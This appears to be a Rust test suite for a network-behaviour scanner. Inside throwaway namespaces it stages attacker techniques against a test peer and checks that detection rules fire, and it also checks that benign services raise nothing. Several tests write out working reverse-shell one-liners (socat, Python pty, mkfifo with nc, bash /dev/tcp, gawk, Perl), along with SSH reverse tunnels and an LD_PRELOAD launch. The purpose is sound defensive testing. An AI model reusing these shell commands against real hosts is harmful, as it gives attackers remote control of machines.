//! Behaviour rules on real tradecraft (issue 15): each technique is built with the program
//! Debian ships, in its own namespace, against a peer inside `trusted_networks` (198.51.100.7,
//! trusted by `--lists`), so the destination rule (NET-NET-001) cannot be what finds it: the
//! scan must report it at high or critical by the behaviour rule's id. And the other side: a
//! public web server with hundreds of accepted clients from untrusted ranges raises no finding
//! per client.

use std::time::{Duration, Instant};

use serde_json::Value;

use crate::common::{BIN, Netns, require_root};

/// The peer, on the namespace's loopback, inside the trusted range the scans are given.
const PEER: &str = "198.51.100.7";

/// `--lists` file trusting 198.51.100.0/24, plus `extra` YAML lines.
fn lists(ns: &Netns, extra: &str) -> String {
    let p = ns.workdir().join("site.yaml");
    std::fs::write(
        &p,
        format!("trusted_networks:\n  - 198.51.100.0/24\n{extra}"),
    )
    .unwrap();
    p.display().to_string()
}

/// `scan --format json` in the namespace with `lists`; returns (exit code, report).
fn scan(ns: &Netns, lists: &str) -> (i32, Value) {
    let out = ns.run(&[BIN, "scan", "--format", "json", "--lists", lists]);
    let code = out.status.code().unwrap();
    assert!(
        code == 0 || code == 1,
        "scan failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    (code, serde_json::from_slice(&out.stdout).unwrap())
}

fn findings(report: &Value) -> &Vec<Value> {
    report["findings"].as_array().unwrap()
}

/// Scans until a finding of `rule` appears (the technique's processes start asynchronously),
/// for at most 10 s; returns it with the last report.
fn wait_for_rule(ns: &Netns, lists: &str, rule: &str) -> (Value, Value) {
    let start = Instant::now();
    loop {
        let (_, report) = scan(ns, lists);
        if let Some(f) = findings(&report).iter().find(|f| f["rule_id"] == rule) {
            return (f.clone(), report);
        }
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "no {rule} finding within 10 s:\n{report:#}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Waits until `ss ARGS` in the namespace prints something.
fn wait_ss(ns: &Netns, args: &[&str]) {
    let mut argv = vec!["ss", "-H"];
    argv.extend_from_slice(args);
    for _ in 0..100 {
        if !ns.run(&argv).stdout.is_empty() {
            return;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("nothing in `{}`", argv.join(" "));
}

/// Waits until `ss ARGS` in the namespace shows a socket held by `who`.
fn wait_ss_holding(ns: &Netns, args: &[&str], who: &str) {
    let mut argv = vec!["ss", "-H"];
    argv.extend_from_slice(args);
    for _ in 0..100 {
        if String::from_utf8_lossy(&ns.run(&argv).stdout).contains(&format!("\"{who}\"")) {
            return;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("no socket of {who} in `{}`", argv.join(" "));
}

/// A namespace with the peer address on loopback and a TCP peer on PEER:4444 that accepts and
/// holds connections, sending nothing (the shell waits for commands).
fn with_peer() -> Netns {
    let mut ns = Netns::new();
    ns.ip(&format!("addr add {PEER}/32 dev lo"));
    ns.spawn(&[
        "python3",
        "-c",
        "import socket,time\n\
         s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         s.bind(('198.51.100.7', 4444)); s.listen(8); held=[]\n\
         while True: held.append(s.accept()[0])",
    ]);
    wait_ss(&ns, &["-tln", "sport", "=", ":4444"]);
    ns
}

/// Runs `technique` (argv, `{dir}` standing for the namespace's work directory) against the
/// peer and asserts `rule` reports it at high or critical, on a socket held by a process whose
/// exe contains `holder`.
fn technique(name: &str, argv: &[&str], rule: &str, holder: &str) {
    if !require_root(name) {
        return;
    }
    let mut ns = with_peer();
    let lists = lists(&ns, "");
    let dir = ns.workdir().display().to_string();
    let argv: Vec<String> = argv.iter().map(|a| a.replace("{dir}", &dir)).collect();
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    ns.spawn(&argv);
    let (f, report) = wait_for_rule(&ns, &lists, rule);
    assert!(
        matches!(f["severity"].as_str(), Some("high" | "critical")),
        "{name}: {rule} at {}",
        f["severity"]
    );
    assert!(
        f["processes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["exe"].as_str().is_some_and(|e| e.contains(holder))),
        "{name}: {rule} must name the holder {holder}: {f:#}"
    );
    // The peer is trusted: the destination rule stays silent.
    assert!(
        !findings(&report)
            .iter()
            .any(|f| f["rule_id"] == "NET-NET-001"),
        "{name}: NET-NET-001 fired on a trusted peer:\n{report:#}"
    );
}

#[test]
fn socat_pty_shell_is_a_relayed_shell() {
    technique(
        "socat_pty_shell_is_a_relayed_shell",
        &[
            "socat",
            &format!("tcp:{PEER}:4444"),
            "exec:'bash -li',pty,stderr,setsid,sigint,sane",
        ],
        "NET-SHL-007",
        "socat",
    );
}

#[test]
fn python_pty_spawn_is_a_relayed_shell() {
    technique(
        "python_pty_spawn_is_a_relayed_shell",
        &[
            "/usr/bin/python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('198.51.100.7',4444));\
             [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')",
        ],
        "NET-SHL-007",
        "python3",
    );
}

#[test]
fn mkfifo_pipeline_is_a_relayed_shell() {
    technique(
        "mkfifo_pipeline_is_a_relayed_shell",
        &[
            "sh",
            "-c",
            "mkfifo {dir}/f; cat {dir}/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > {dir}/f",
        ],
        "NET-SHL-007",
        "nc.openbsd",
    );
}

#[test]
fn bash_dev_tcp_one_liner() {
    technique(
        "bash_dev_tcp_one_liner",
        &[
            "bash",
            "-c",
            "exec 5<>/dev/tcp/198.51.100.7/4444; cat <&5 | bash >&5 2>&5",
        ],
        "NET-SHL-008",
        "cat",
    );
}

/// gawk's /inet/tcp one-liner, padded so that the fragment sits 8 KiB into the command line.
#[test]
fn gawk_inet_tcp_one_liner_however_long() {
    let program = format!(
        "BEGIN{{pad=\"{}\"; s=\"/inet/tcp/0/198.51.100.7/4444\"; \
         while((s |& getline c) > 0){{ while((c | getline l) > 0) print l |& s; close(c) }}}}",
        "x".repeat(8192)
    );
    technique(
        "gawk_inet_tcp_one_liner_however_long",
        &["gawk", &program],
        "NET-SHL-008",
        "gawk",
    );
}

#[test]
fn perl_socket_one_liner() {
    technique(
        "perl_socket_one_liner",
        &[
            "perl",
            "-MIO",
            "-e",
            "$c=new IO::Socket::INET(PeerAddr,'198.51.100.7:4444');\
             STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
        ],
        "NET-SHL-006",
        "perl",
    );
}

/// A packet socket for every protocol, without a filter, held by an interpreter.
#[test]
fn unfiltered_packet_socket_is_a_sniffer() {
    technique(
        "unfiltered_packet_socket_is_a_sniffer",
        &[
            "/usr/bin/python3",
            "-c",
            "import socket,time;s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3));\
             time.sleep(600)",
        ],
        "NET-BPF-003",
        "python3",
    );
}

/// A real sshd on PEER:22 in the namespace, accepting root with a key made for the test;
/// returns the ssh client's fixed arguments.
fn sshd(ns: &mut Netns) -> Vec<String> {
    let dir = ns.workdir();
    for k in ["hostkey", "clientkey"] {
        let st = std::process::Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(dir.join(k))
            .status()
            .unwrap();
        assert!(st.success());
    }
    std::fs::copy(dir.join("clientkey.pub"), dir.join("authorized_keys")).unwrap();
    std::fs::create_dir_all("/run/sshd").unwrap();
    let d = dir.display().to_string();
    ns.spawn(&[
        "/usr/sbin/sshd",
        "-D",
        "-f",
        "/dev/null",
        "-h",
        &format!("{d}/hostkey"),
        "-o",
        &format!("ListenAddress={PEER}:22"),
        "-o",
        &format!("AuthorizedKeysFile={d}/authorized_keys"),
        "-o",
        "StrictModes=no",
        "-o",
        "PermitRootLogin=prohibit-password",
        "-o",
        "AllowTcpForwarding=yes",
        "-o",
        "PermitTunnel=yes",
    ]);
    wait_ss(ns, &["-tln", "sport", "=", ":22"]);
    [
        "ssh",
        "-i",
        &format!("{d}/clientkey"),
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "BatchMode=yes",
        "-N",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// `ssh -R` to a trusted server: the client's reverse tunnel (NET-TUN-004, critical) and the
/// daemon's listener for it (NET-TUN-005).
#[test]
fn ssh_reverse_tunnel_to_a_trusted_server() {
    if !require_root("ssh_reverse_tunnel_to_a_trusted_server") {
        return;
    }
    let mut ns = Netns::new();
    ns.ip(&format!("addr add {PEER}/32 dev lo"));
    let mut argv = sshd(&mut ns);
    argv.extend(["-R", "9000:127.0.0.1:80", &format!("root@{PEER}")].map(String::from));
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    ns.spawn(&argv);
    let lists = lists(&ns, "");
    let (f, _) = wait_for_rule(&ns, &lists, "NET-TUN-004");
    assert_eq!(f["severity"], "critical", "{f:#}");
    let (f, _) = wait_for_rule(&ns, &lists, "NET-TUN-005");
    assert_eq!(f["severity"], "high", "{f:#}");
    assert_eq!(f["socket"]["local"]["port"], 9000, "{f:#}");
}

/// `ssh -D` (SOCKS) and `-L` by a user who is not an administrator: NET-TUN-006 at high. The
/// same `-L` on loopback by an administrator (`ssh_forward_allowlist`) to a trusted server:
/// nothing at low or above.
#[test]
fn ssh_local_and_dynamic_forwards_in_context() {
    if !require_root("ssh_local_and_dynamic_forwards_in_context") {
        return;
    }
    let mut ns = Netns::new();
    ns.ip(&format!("addr add {PEER}/32 dev lo"));
    let base = sshd(&mut ns);
    let mut argv = base.clone();
    argv.extend(["-D", "127.0.0.1:1080", &format!("root@{PEER}")].map(String::from));
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    ns.spawn(&argv);
    wait_ss(&ns, &["-tln", "sport", "=", ":1080"]);
    let plain = lists(&ns, "");
    let (f, _) = wait_for_rule(&ns, &plain, "NET-TUN-006");
    assert_eq!(f["severity"], "high", "{f:#}");

    // The administrator's case, in a fresh namespace.
    let mut ns = Netns::new();
    ns.ip(&format!("addr add {PEER}/32 dev lo"));
    let mut argv = sshd(&mut ns);
    argv.extend(["-L", "127.0.0.1:5432:127.0.0.1:22", &format!("root@{PEER}")].map(String::from));
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    ns.spawn(&argv);
    wait_ss(&ns, &["-tln", "sport", "=", ":5432"]);
    wait_ss(&ns, &["-tn", "state", "established", "dport", "=", ":22"]);
    let admin = lists(&ns, "ssh_forward_allowlist: [root]\n");
    let (_, report) = scan(&ns, &admin);
    let ssh: Vec<&Value> = findings(&report)
        .iter()
        .filter(|f| f["severity"] != "info")
        .filter(|f| {
            f["processes"]
                .as_array()
                .unwrap()
                .iter()
                .any(|p| p["exe"] == "/usr/bin/ssh")
        })
        .collect();
    assert!(ssh.is_empty(), "an admin's loopback -L raised {ssh:#?}");
    // Without the allow-list, the same forward is reported.
    let (_, report) = scan(&ns, &plain);
    assert!(
        findings(&report)
            .iter()
            .any(|f| f["rule_id"] == "NET-TUN-006"),
        "{report:#}"
    );
}

/// A real nginx on 0.0.0.0:80 with 300 accepted clients from four addresses of 203.0.113.0/24
/// (untrusted) in a second namespace: the scan of the server's namespace has no finding per client.
#[test]
fn public_web_server_clients_are_not_findings() {
    if !require_root("public_web_server_clients_are_not_findings") {
        return;
    }
    let mut server = Netns::new();
    let clients = Netns::new();
    // A veth pair between the two namespaces: 192.0.2.80 (server) and 203.0.113.0/24 (clients).
    server.ip(&format!(
        "link add web0 type veth peer name web1 netns {}",
        clients.name
    ));
    server.ip("addr add 192.0.2.80/32 dev web0");
    server.ip("link set web0 up");
    server.ip("route add 203.0.113.0/24 dev web0");
    clients.ip("addr add 203.0.113.10/24 dev web1");
    for a in 11..14 {
        clients.ip(&format!("addr add 203.0.113.{a}/24 dev web1"));
    }
    clients.ip("link set web1 up");
    clients.ip("route add 192.0.2.80/32 dev web1");
    let dir = server.workdir().display().to_string();
    std::fs::write(
        server.workdir().join("nginx.conf"),
        format!(
            "daemon off; master_process on; worker_processes 1; pid {dir}/nginx.pid;\n\
             error_log {dir}/error.log;\n\
             events {{ worker_connections 1024; }}\n\
             http {{ access_log off; client_body_temp_path {dir}; proxy_temp_path {dir};\n\
             fastcgi_temp_path {dir}; uwsgi_temp_path {dir}; scgi_temp_path {dir};\n\
             keepalive_timeout 600s; server {{ listen 0.0.0.0:80; location / {{ return 204; }} }} }}\n"
        ),
    )
    .unwrap();
    server.spawn(&[
        "/usr/sbin/nginx",
        "-e",
        &format!("{dir}/error.log"),
        "-c",
        &format!("{dir}/nginx.conf"),
    ]);
    wait_ss(&server, &["-tln", "sport", "=", ":80"]);
    let out = clients.run(&[
        "python3",
        "-c",
        "import socket,os,sys\n\
         held=[]\n\
         for i in range(300):\n\
         \x20   s=socket.create_connection(('192.0.2.80',80), source_address=('203.0.113.%d' % (10 + i % 4), 0))\n\
         \x20   held.append(s)\n\
         print('READY', flush=True)\n\
         if os.fork(): os._exit(0)\n\
         os.setsid(); n=os.open(os.devnull, os.O_RDWR)\n\
         for f in (0, 1, 2): os.dup2(n, f)\n\
         import time; time.sleep(600)",
    ]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("READY"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    wait_ss(
        &server,
        &["-tn", "state", "established", "sport", "=", ":80"],
    );
    let lists = lists(&server, "");
    let (code, report) = scan(&server, &lists);
    let accepted = report["summary"]["sockets"].as_u64().unwrap();
    assert!(accepted >= 300, "only {accepted} sockets seen");
    let per_client: Vec<String> = findings(&report)
        .iter()
        .filter(|f| f["severity"] != "info")
        .map(|f| format!("{} {}", f["rule_id"], f["message"]))
        .collect();
    assert!(per_client.is_empty(), "{}", per_client.join("\n"));
    assert_eq!(code, 0);
}

/// curl started with LD_PRELOAD of a library in a temporary directory, connected to the
/// trusted peer: NET-PRC-009.
#[test]
fn curl_with_ld_preload() {
    if !require_root("curl_with_ld_preload") {
        return;
    }
    let mut ns = with_peer();
    // Any real shared library will do: the loader maps it, nothing calls it.
    let lib = [
        "/usr/lib/x86_64-linux-gnu/libz.so.1",
        "/lib/x86_64-linux-gnu/libz.so.1",
    ]
    .iter()
    .find(|p| std::path::Path::new(p).exists())
    .expect("zlib (a dependency of curl) is installed");
    let planted = ns.workdir().join("libx.so");
    std::fs::copy(lib, &planted).unwrap();
    let lists = lists(&ns, "");
    ns.spawn(&[
        "env",
        &format!("LD_PRELOAD={}", planted.display()),
        "curl",
        "-s",
        "--max-time",
        "600",
        &format!("http://{PEER}:4444/"),
    ]);
    let (f, _) = wait_for_rule(&ns, &lists, "NET-PRC-009");
    assert_eq!(f["severity"], "high", "{f:#}");
    assert!(
        f["processes"][0]["exe"] == "/usr/bin/curl",
        "the holder is curl: {f:#}"
    );
}

/// One process with 12 connected UDP sockets to port 53 of a server that is not among the
/// host's resolvers (it is inside the trusted range): NET-DNS-002 and NET-DNS-001.
#[test]
fn dns_to_an_unconfigured_server() {
    if !require_root("dns_to_an_unconfigured_server") {
        return;
    }
    let mut ns = Netns::new();
    ns.ip("addr add 198.51.100.53/32 dev lo");
    let lists = lists(&ns, "");
    ns.spawn(&[
        "/usr/bin/python3",
        "-c",
        "import socket,time\n\
         held=[]\n\
         for i in range(12):\n\
         \x20   s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.53', 53))\n\
         \x20   s.send(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01a\\x07example\\x00\\x00\\x10\\x00\\x01'); held.append(s)\n\
         time.sleep(600)",
    ]);
    let (f, report) = wait_for_rule(&ns, &lists, "NET-DNS-001");
    assert_eq!(f["severity"], "high", "{f:#}");
    let g = findings(&report)
        .iter()
        .find(|f| f["rule_id"] == "NET-DNS-002")
        .unwrap_or_else(|| panic!("no NET-DNS-002:\n{report:#}"));
    assert_eq!(g["severity"], "high", "{g:#}");
}

/// The benign side: real services a server runs, each as Debian ships it, in one namespace with
/// an sshd and an admin's ssh session to it: a DHCP client's packet socket with its BPF filter
/// (isc-dhcp-client's dhclient), tcpdump run by root (an unfiltered capture of every protocol),
/// chrony polling an NTP server on UDP 123, a local DNS stub (dnsmasq) with a client,
/// avahi-daemon's mDNS, and a log forwarder (rsyslog) sending to a collector on the trusted peer.
/// Exit 0 and nothing at low or above.
#[test]
fn benign_services_raise_nothing() {
    if !require_root("benign_services_raise_nothing") {
        return;
    }
    let mut ns = Netns::new();
    ns.ip(&format!("addr add {PEER}/32 dev lo"));
    let dir = ns.workdir().display().to_string();
    // dhclient on veth0: a packet socket with its BPF filter, a UDP socket on 68.
    ns.spawn(&[
        "dhclient",
        "-d",
        "-q",
        "-4",
        "-pf",
        &format!("{dir}/dhclient.pid"),
        "-lf",
        &format!("{dir}/dhclient.leases"),
        "-sf",
        "/bin/true",
        "veth0",
    ]);
    // tcpdump by root on loopback, writing nowhere.
    ns.spawn(&["tcpdump", "-i", "lo", "-n", "-w", "/dev/null"]);
    // chrony as a client of an NTP server on the trusted peer address, not touching the clock.
    std::fs::write(
        ns.workdir().join("chrony.conf"),
        format!(
            "server {PEER} iburst\npidfile {dir}/chronyd.pid\ndriftfile {dir}/drift\n\
             cmdport 0\nport 0\n"
        ),
    )
    .unwrap();
    ns.spawn(&[
        "chronyd",
        "-d",
        "-x",
        "-u",
        "root",
        "-f",
        &format!("{dir}/chrony.conf"),
    ]);
    // A local DNS stub (dnsmasq, as Debian's dnsmasq-base ships it) forwarding to the peer, and
    // a client with a query in flight to it.
    ns.spawn(&[
        "dnsmasq",
        "-k",
        "--conf-file=/dev/null",
        "--user=root",
        "--interface=lo",
        "--bind-interfaces",
        "--no-resolv",
        &format!("--server={PEER}"),
        &format!("--pid-file={dir}/dnsmasq.pid"),
    ]);
    wait_ss(&ns, &["-uln", "sport", "=", ":53"]);
    ns.spawn(&[
        "/usr/bin/python3",
        "-c",
        "import socket,time\n\
         s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 53))\n\
         s.send(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01a\\x07example\\x00\\x00\\x01\\x00\\x01')\n\
         time.sleep(600)",
    ]);
    // avahi-daemon's mDNS responder on veth0 (UDP 5353 on every address, v4 and v6), as root
    // without D-Bus; its pid file and socket on a private /run/avahi-daemon.
    std::fs::write(
        ns.workdir().join("avahi.conf"),
        "[server]\nuse-ipv4=yes\nuse-ipv6=yes\nallow-interfaces=veth0\nenable-dbus=no\n\
         [publish]\npublish-workstation=no\n[wide-area]\nenable-wide-area=no\n",
    )
    .unwrap();
    ns.spawn(&[
        "unshare",
        "-m",
        "--propagation",
        "private",
        "sh",
        "-c",
        &format!(
            "mkdir -p /run/avahi-daemon && mount -t tmpfs tmpfs /run/avahi-daemon && \
             exec avahi-daemon -f {dir}/avahi.conf --no-drop-root --no-chroot --no-rlimits"
        ),
    ]);
    // A log forwarder (rsyslog's omfwd over TCP) sending to a trusted collector (rsyslog's imtcp
    // on the peer address), with a message through it.
    for (name, conf) in [
        (
            "collector",
            format!(
                "module(load=\"imtcp\")\ninput(type=\"imtcp\" address=\"{PEER}\" port=\"514\")\n\
                 *.* action(type=\"omfile\" file=\"{dir}/collector/received.log\")\n"
            ),
        ),
        (
            "forwarder",
            format!(
                "module(load=\"imuxsock\" SysSock.Use=\"off\")\n\
                 input(type=\"imuxsock\" Socket=\"{dir}/forwarder/log.sock\")\n\
                 *.* action(type=\"omfwd\" target=\"{PEER}\" port=\"514\" protocol=\"tcp\")\n"
            ),
        ),
    ] {
        std::fs::create_dir(ns.workdir().join(name)).unwrap();
        std::fs::write(
            ns.workdir().join(format!("{name}.conf")),
            format!("global(workDirectory=\"{dir}/{name}\")\n{conf}"),
        )
        .unwrap();
        ns.spawn(&[
            "rsyslogd",
            "-n",
            "-f",
            &format!("{dir}/{name}.conf"),
            "-i",
            &format!("{dir}/{name}.pid"),
        ]);
        if name == "collector" {
            wait_ss(&ns, &["-tln", "sport", "=", ":514"]);
        }
    }
    let received = ns.workdir().join("collector/received.log");
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while !std::fs::read_to_string(&received).is_ok_and(|r| r.contains("benign forward")) {
        assert!(
            std::time::Instant::now() < deadline,
            "rsyslog never forwarded"
        );
        let sock = format!("{dir}/forwarder/log.sock");
        let _ = ns.run(&["logger", "-u", &sock, "benign forward"]);
        std::thread::sleep(Duration::from_millis(200));
    }
    // An admin's interactive-less ssh session to the local sshd.
    let mut argv = sshd(&mut ns);
    argv.push(format!("root@{PEER}"));
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    ns.spawn(&argv);
    for who in ["dhclient", "tcpdump"] {
        wait_ss_holding(&ns, &["-0p"], who);
    }
    wait_ss(&ns, &["-un", "dport", "=", ":123"]);
    wait_ss_holding(&ns, &["-ulnp", "sport", "=", ":5353"], "avahi-daemon");
    wait_ss(&ns, &["-tn", "state", "established", "dport", "=", ":22"]);
    let lists = lists(&ns, "");
    let (code, report) = scan(&ns, &lists);
    assert_eq!(code, 0, "{report:#}");
    let bad: Vec<String> = findings(&report)
        .iter()
        .filter(|f| f["severity"] != "info")
        .map(|f| format!("{} {}", f["rule_id"], f["message"]))
        .collect();
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

/// A tunnel client dropped outside the package directories under a harmless name: Debian's
/// openssl copied to the work directory as `agent`, connecting with ligolo-style
/// `-connect HOST:PORT` to the trusted peer (NET-TUN-007).
#[test]
fn renamed_tunnel_client_from_an_unusual_path() {
    if !require_root("renamed_tunnel_client_from_an_unusual_path") {
        return;
    }
    let mut ns = with_peer();
    let agent = ns.workdir().join("agent");
    std::fs::copy("/usr/bin/openssl", &agent).expect("openssl is installed");
    let lists = lists(&ns, "");
    let agent = agent.display().to_string();
    ns.spawn(&[
        &agent,
        "s_client",
        "-quiet",
        "-connect",
        &format!("{PEER}:4444"),
    ]);
    let (f, _) = wait_for_rule(&ns, &lists, "NET-TUN-007");
    assert_eq!(f["severity"], "high", "{f:#}");
    assert_eq!(f["processes"][0]["exe"], agent.as_str(), "{f:#}");
}
